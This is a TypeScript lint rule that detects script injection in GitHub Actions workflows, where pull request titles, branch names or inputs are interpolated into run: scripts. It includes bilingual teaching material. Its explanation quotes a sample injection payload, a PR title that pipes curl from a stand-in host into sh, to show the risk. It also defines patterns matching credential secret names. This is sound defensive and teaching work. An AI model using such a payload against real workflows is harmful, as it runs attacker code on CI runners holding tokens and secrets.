import { l, yamlRule } from '../../rule';
import type { Range } from '../../types';
import { expressions, jobSteps, safeInputs, triggers, workflowJobs } from '../../yaml/actions';
import { at, entries, scalar, type YamlDocument, type YNode } from '../../yaml/model';

/** Event fields an outsider can write: titles, bodies, branch names, commit messages... */
const EVENT_FIELD = /\bgithub\.event(?:\.|\[)[\w.[\]'"*-]+/g;
/**
 * Fields that are numbers, ids, hashes or GitHub logins (letters, digits and hyphens) and cannot
 * carry a shell payload, and the fields of the repository the workflow runs in, which only its
 * maintainers set (a fork's are under `head.repo`, still outside input).
 */
const SAFE_EVENT_FIELD = /\.(number|id|\w+_id|sha|before|after|run_number|run_attempt|\w+_count|size|draft|merged|private|fork|login)$|^github\.event\.repository\./;
const INPUT = /\b(?:github\.event\.)?inputs\.([\w-]+)/g;
/**
 * A secret named like a credential rather than a location or a name (`AWS_SECRET_ACCESS_KEY`,
 * `API_TOKEN`, a kubeconfig; not `ECR_REGISTRY`, `GCP_PROJECT_ID`, `DOCKERHUB_USERNAME`): only a
 * credential in a script file is worth a word.
 */
const CREDENTIAL = /\bsecrets\.[\w-]*(?:KEY|TOKEN|PASSWORD|PASSWD|SECRET|CREDENTIAL|PRIVATE|KUBECONFIG|CERT|(?<![a-z])PAT(?![a-z]))[\w-]*/i;
/** `echo "${{ secrets.X }}" | docker login --password-stdin`: the documented way to hand a registry its password. */
const TO_STDIN = /--password-stdin\b/;

function untrustedReference(body: string, safe: ReadonlySet<string>): string | undefined {
  if (/\bgithub\.head_ref\b/.test(body)) return 'github.head_ref';
  for (const match of body.matchAll(INPUT)) if (!safe.has(match[1])) return match[0];
  for (const match of body.matchAll(EVENT_FIELD)) {
    if (/^github\.event\.inputs\./.test(match[0])) continue;
    if (!SAFE_EVENT_FIELD.test(match[0])) return match[0];
  }
  // The whole event, e.g. `toJSON(github.event)`, carries every field above.
  return /\bgithub\.event\b(?![.[\w])/.test(body) ? 'github.event' : undefined;
}

/**
 * The inputs context is filled only by workflow_dispatch (someone with write access types it) and
 * workflow_call (the caller passes it, perhaps from an untrusted event): without workflow_call, an
 * input is a collaborator's value, whatever else triggers the workflow.
 */
function inputsFromCollaborators(document: YamlDocument): boolean {
  const on = triggers(document)?.value;
  if (!on) return false;
  const names = on.kind === 'map' ? entries(on).map((e) => e.key) : on.kind === 'seq' ? on.items.map((i) => scalar(i) ?? '') : [scalar(on) ?? ''];
  return !names.includes('workflow_call');
}

export default yamlRule({
  id: 'untrusted-expression-in-run',
  language: 'yaml',
  documentKinds: ['github-actions'],
  category: 'security',
  severity: 'error',
  anchors: ['actionlint:expression', 'zizmor:template-injection', 'CKV_GHA_2', 'CWE-78'],
  severityReasons: {
    collaboratorInput: {
      severity: 'warning',
      message: l(
        'workflow_dispatch 입력은 쓰기 권한이 있는 사람이 넣는 값이라 외부인의 주입은 아니지만, 따옴표나 $( 가 든 값은 여전히 셸로 실행됩니다',
        'a workflow_dispatch input is typed by someone with write access, not an outsider, but a value holding a quote or $( still runs as shell',
      ),
    },
    secret: {
      severity: 'info',
      message: l(
        '시크릿은 외부인이 조작할 수 없는 값이라 주입 위험은 없고, 스크립트 파일과 실행 기록에 값이 남는 것이 문제입니다',
        'a secret is not something an outsider can write, so this is no injection: the value only lands in the script file and its traces',
      ),
    },
  },
  messages: {
    untrusted: l('run 스크립트에 외부에서 조작할 수 있는 값({reference})이 직접 들어갑니다', 'The run script interpolates {reference}, which outsiders can control'),
    secret: l('run 스크립트에 시크릿이 직접 들어갑니다; env로 전달하세요', 'The run script interpolates a secret directly; pass it through env'),
    input: l(
      'run 스크립트에 워크플로 입력({reference})이 직접 들어갑니다; env로 전달하세요',
      'The run script interpolates the workflow input {reference} directly; pass it through env',
    ),
  },
  docs: {
    summary: l(
      'run:(과 github-script의 script:) 안의 ${{ }}가 github.event.*, github.head_ref, inputs.* 같은 외부 입력이나 자격 증명 시크릿(키, 토큰, 비밀번호)을 직접 넣는 경우를 찾습니다 (boolean/number/choice 입력, 이름·주소 시크릿, --password-stdin으로 넘기는 비밀번호는 제외).',
      'Flags ${{ }} inside run: (and github-script script:) that interpolates outside input such as github.event.*, github.head_ref or inputs.*, or a credential secret (a key, token or password; boolean/number/choice inputs, secrets holding a name or address and a password piped to --password-stdin are fine).',
    ),
    why: l(
      '${{ }}는 셸이 실행되기 전에 글자 그대로 치환됩니다. PR 제목에 "; curl evil.sh | sh"를 쓰면 그 명령이 러너에서 토큰과 시크릿을 가진 채 실행됩니다. 시크릿을 직접 넣으면 스크립트 파일과 로그에 남을 수 있습니다.',
      '${{ }} is substituted as text before the shell runs: a pull request titled "; curl evil.sh | sh" runs that command on the runner with the token and secrets. Secrets interpolated directly can also end up in script files and logs.',
    ),
    bad: 'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n',
    good: 'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      # TODO: 이 값이 셸에서 어떻게 해석될지 생각해 보세요\n      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo "$TITLE"\n',
  },
  weeks: ['intermediate/1'],
  questions: [
    l(
      'PR 제목이나 브랜치 이름은 누가 정하나요? 그 값에 따옴표와 세미콜론이 들어 있다면 이 셸 스크립트는 어떻게 될까요?',
      'Who chooses a pull request title or a branch name, and what happens to this shell script if it contains quotes and a semicolon?',
    ),
    l('${{ }}가 치환되는 시점과 셸 변수가 확장되는 시점은 어떻게 다를까요?', 'How does the moment ${{ }} is substituted differ from the moment a shell variable is expanded?'),
  ],
  scaffold: {
    ko: '# TODO: 외부 입력을 데이터로만 다루기\n# 고려사항:\n# - 이 값은 누가 조작할 수 있나요? (PR 작성자, 이슈 작성자, 워크플로 실행자)\n# - env로 옮겨서 셸 변수로 읽으면 무엇이 달라지나요?\n# - 셸 안에서도 따옴표 처리가 필요할까요?\n# - env:\n#     VALUE: # TODO\n#   run: # TODO ("$VALUE"로 사용)\n',
    en: '# TODO: treat outside input as data only\n# Consider:\n# - who can control this value (PR author, issue author, whoever dispatches)?\n# - what changes when you move it to env and read it as a shell variable?\n# - does it still need quoting inside the shell?\n# - env:\n#     VALUE: # TODO\n#   run: # TODO (use "$VALUE")\n',
  },
  check(context, document) {
    const safe = safeInputs(document);
    const collaborators = inputsFromCollaborators(document);
    // Credentials in the scripts of one workflow are one thing to move into env:, said once, at the
    // first (a key, token or password; a registry, project or user name is not worth a word, nor a
    // password piped to --password-stdin); so is each input a collaborator types.
    let firstCredential: Range | undefined;
    const inputsSaid = new Set<string>();
    const inspect = (script: YNode | undefined) => {
      const stdinLines = script?.kind === 'scalar' ? script.raw.split('\n').filter((line) => TO_STDIN.test(line)) : [];
      for (const expression of expressions(script)) {
        const reference = untrustedReference(expression.body, safe);
        const input = reference !== undefined && collaborators && /^(?:github\.event\.)?inputs\./.test(reference);
        if (input && inputsSaid.has(reference)) continue;
        if (input) inputsSaid.add(reference);
        if (reference)
          context.report({ range: expression.range, messageId: input ? 'input' : 'untrusted', data: { reference }, severityReason: input ? 'collaboratorInput' : undefined });
        else if (CREDENTIAL.test(expression.body) && !stdinLines.some((line) => line.includes(expression.body))) firstCredential ??= expression.range;
      }
    };
    for (const job of workflowJobs(document)) {
      for (const step of jobSteps(job)) {
        inspect(at(step, 'run'));
        if (/^actions\/github-script@/.test(scalar(at(step, 'uses')) ?? '')) inspect(at(step, 'with.script'));
      }
    }
    if (firstCredential) context.report({ range: firstCredential, messageId: 'secret', severityReason: 'secret' });
  },
});
